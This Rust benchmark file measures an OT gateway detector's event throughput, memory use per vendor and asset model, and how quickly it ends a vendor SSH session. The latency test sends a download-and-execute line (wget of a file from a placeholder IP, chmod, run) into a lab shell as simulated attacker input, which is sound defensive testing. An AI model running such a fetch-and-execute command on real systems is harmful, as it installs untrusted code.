//! The detector: events scored per second on one core (commands and Modbus requests),
//! memory per vendor and per asset model, and detection-to-session-end latency: a vendor's
//! OpenSSH shell through the gateway types a download-and-execute line, the detector
//! terminates the session and revokes its grant. Measured over `sessions` sessions (each on
//! a fresh grant) from the command event that crossed the threshold (its time in the
//! session's recording) to the vendor's ssh exiting, and from the Enter key (which includes
//! the gateway's shell guard holding the line until its echo settles).

use std::io::Write;
use std::path::PathBuf;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};
use time::OffsetDateTime;

use otgate_detector::{
    Detector, DetectorConfig, ModbusRequest, Observation, Observed, SessionContext, Table,
};

use crate::demo::Demo;
use crate::ssh::{grant, lab, rss_bytes, shell};
use crate::stats::summarize;

/// Real command streams (the SEA users), or a fixed mix when the data is not here.
fn commands() -> Vec<String> {
    let dirs = [
        std::env::var("OTGATE_DATA").ok().map(PathBuf::from),
        Some(PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../shared/data")),
    ];
    for dir in dirs.into_iter().flatten() {
        let mut all = Vec::new();
        for user in 1..=25 {
            if let Ok(text) = std::fs::read_to_string(dir.join(format!("sea-dev/User{user}"))) {
                all.extend(text.lines().map(str::to_owned));
            }
        }
        if !all.is_empty() {
            return all;
        }
    }
    [
        "ls -la",
        "systemctl status historian",
        "tail -n 50 /var/log/syslog",
        "df -h",
        "vi cfg",
    ]
    .iter()
    .cycle()
    .take(10_000)
    .map(|s| (*s).to_owned())
    .collect()
}

fn context(id: &str, vendor: &str, asset: &str) -> SessionContext {
    SessionContext {
        id: id.into(),
        grant: None,
        vendor: vendor.into(),
        asset: asset.into(),
        zone: None,
        level: None,
        addresses: Vec::new(),
        maintenance: Vec::new(),
        started_at: OffsetDateTime::now_utc(),
    }
}

fn modbus(session: &str, i: usize) -> Observation {
    let write = i.is_multiple_of(10);
    Observation {
        session: session.into(),
        at: OffsetDateTime::now_utc(),
        what: Observed::Modbus {
            request: ModbusRequest {
                unit: 1,
                function: if write { 6 } else { 3 },
                table: Some(Table::Holding),
                start: Some(100 + (i % 50) as u16),
                count: Some(if write { 1 } else { 10 }),
                values: if write {
                    vec![(i % 500) as u16]
                } else {
                    vec![]
                },
                exception: None,
            },
            allowed: true,
        },
    }
}

/// Events per second through `Detector::observe`, on this thread.
fn throughput(commands: &[String]) -> Result<()> {
    let mut detector = Detector::new(DetectorConfig::default())?;
    let n = commands.len().min(150_000);
    // Sessions of 100 commands, vendors taking turns, so models warm up and learn as live.
    let start = Instant::now();
    for (b, block) in commands[..n].chunks(100).enumerate() {
        let id = format!("c{b}");
        detector.start(context(&id, &format!("vendor{}", b % 25), "ews"));
        for line in block {
            let _ = detector.observe(&Observation {
                session: id.clone(),
                at: OffsetDateTime::now_utc(),
                what: Observed::Command {
                    line: line.clone(),
                    allowed: true,
                },
            });
        }
        detector.end(&id);
    }
    let elapsed = start.elapsed();
    println!(
        "commands scored on one core: {:>10.0} events/s ({n} events, sessions of 100, 25 vendors)",
        n as f64 / elapsed.as_secs_f64()
    );
    let requests = 200_000;
    let start = Instant::now();
    for s in 0..requests / 1000 {
        let id = format!("m{s}");
        detector.start(context(&id, "vendor1", &format!("plc-{}", s % 10)));
        for i in 0..1000 {
            let _ = detector.observe(&modbus(&id, i));
        }
        detector.end(&id);
    }
    let elapsed = start.elapsed();
    println!(
        "Modbus requests scored on one core: {:>6.0} events/s ({requests} events, 10 PLCs)",
        requests as f64 / elapsed.as_secs_f64()
    );
    Ok(())
}

/// Resident memory added per vendor model and per asset model.
fn memory(commands: &[String]) -> Result<()> {
    let pid = std::process::id();
    let vendors = 1000;
    let mut detector = Detector::new(DetectorConfig::default())?;
    let before = rss_bytes(pid)?;
    for v in 0..vendors {
        // Each vendor learns 2,000 real commands (20 sessions of 100).
        let offset = (v * 2000) % commands.len().saturating_sub(2000).max(1);
        let own = &commands[offset..(offset + 2000).min(commands.len())];
        detector.learn_commands(&format!("vendor{v}"), own);
    }
    let after = rss_bytes(pid)?;
    println!(
        "memory per vendor model (2,000 commands learnt, {vendors} vendors): {:.1} KB",
        after.saturating_sub(before) as f64 / 1e3 / vendors as f64
    );
    let assets = 1000;
    let before = rss_bytes(pid)?;
    for a in 0..assets {
        let observations: Vec<Observation> = (0..500).map(|i| modbus("x", i)).collect();
        detector.learn(
            &format!("vendor{}", a % 10),
            &format!("plc-{a}"),
            &observations,
        );
    }
    let after = rss_bytes(pid)?;
    println!(
        "memory per asset model (500 requests learnt: 50 registers written, reads; {assets} assets, with the vendor-and-asset models): {:.1} KB",
        after.saturating_sub(before) as f64 / 1e3 / assets as f64
    );
    Ok(())
}

/// From the Enter key of an attacker-like line to the vendor's ssh exiting.
async fn detection_to_end(sessions: usize) -> Result<()> {
    let demo = Demo::start()?;
    let lab = lab(&demo).await?;
    let (vendor, eng1, key, public, certificate) = (
        &lab.vendor,
        &lab.eng1,
        &lab.key,
        &lab.public,
        &lab.certificate,
    );
    let gateway = demo.file["ssh"].as_str().context("ssh")?.to_owned();
    let (_, port) = gateway.rsplit_once(':').context("gateway address")?;
    let mut samples = Vec::with_capacity(sessions);
    let mut from_event = Vec::with_capacity(sessions);
    let mut last = None;
    for _ in 0..sessions {
        grant(vendor, eng1, public, certificate).await?;
        let (mut child, mut stdin, rx) = shell(port, key, certificate)?;
        // The shell is ready when it has run a command.
        stdin.write_all(b"echo RE''ADY\r")?;
        let mut seen = Vec::new();
        while !seen.windows(5).any(|w| w == b"READY") {
            let chunk = rx
                .recv_timeout(Duration::from_secs(10))
                .context("the shell did not start")?;
            seen.extend_from_slice(&chunk);
        }
        let sent = Instant::now();
        stdin.write_all(
            b"cd /tmp && wget -q -T 1 http://198.51.100.7/x -O .x; chmod +x .x; ./.x\r",
        )?;
        stdin.flush()?;
        let deadline = sent + Duration::from_secs(20);
        loop {
            if child.try_wait()?.is_some() {
                break;
            }
            if Instant::now() > deadline {
                let _ = child.kill();
                bail!("the detector did not end the session within 20 s");
            }
            std::thread::sleep(Duration::from_micros(200));
        }
        let exited = OffsetDateTime::now_utc();
        samples.push(sent.elapsed());
        from_event.push(command_to_exit(&demo, eng1, exited, &mut last).await?);
    }
    println!("detection to session end ({sessions} sessions, each on a fresh grant):");
    println!(
        "  {}",
        summarize(&from_event).line("command event -> vendor's ssh exits")
    );
    println!(
        "  {}",
        summarize(&samples).line("Enter of the line -> vendor's ssh exits")
    );
    Ok(())
}

/// The time from the recorded `wget` command event of the latest alerted session to
/// `exited`.
async fn command_to_exit(
    demo: &Demo,
    eng1: &crate::demo::Session,
    exited: OffsetDateTime,
    last: &mut Option<String>,
) -> Result<Duration> {
    let archive = otgate_recorder::Archive::new(
        std::sync::Arc::new(otgate_recorder::storage::LocalStorage::new(
            demo.file["recordings"].as_str().context("recordings")?,
        )),
        None,
    );
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let alerts = eng1.get("/alerts?asset=bench-ws&limit=1").await?;
        if let Some(session) = alerts[0]["sessions"][0].as_str()
            && last.as_deref() != Some(session)
        {
            // A segment may be sealed (renamed) while it is read: try again.
            let events = match otgate_recorder::read(&archive, session, None).await {
                Ok(recording) => recording.events,
                Err(_) => Vec::new(),
            };
            let command = events.iter().rev().find(|line| {
                matches!(&line.event, otgate_recorder::SessionEvent::Command { command, .. } if command.contains("wget"))
            });
            if let Some(line) = command {
                *last = Some(session.to_owned());
                let gap = exited - line.at;
                return Ok(Duration::try_from(gap).unwrap_or_default());
            }
        }
        if Instant::now() > deadline {
            bail!("the alerted session's command event was not found: {alerts}");
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// Runs the three measurements.
pub async fn run(sessions: usize) -> Result<()> {
    let commands = commands();
    throughput(&commands)?;
    memory(&commands)?;
    detection_to_end(sessions).await
}
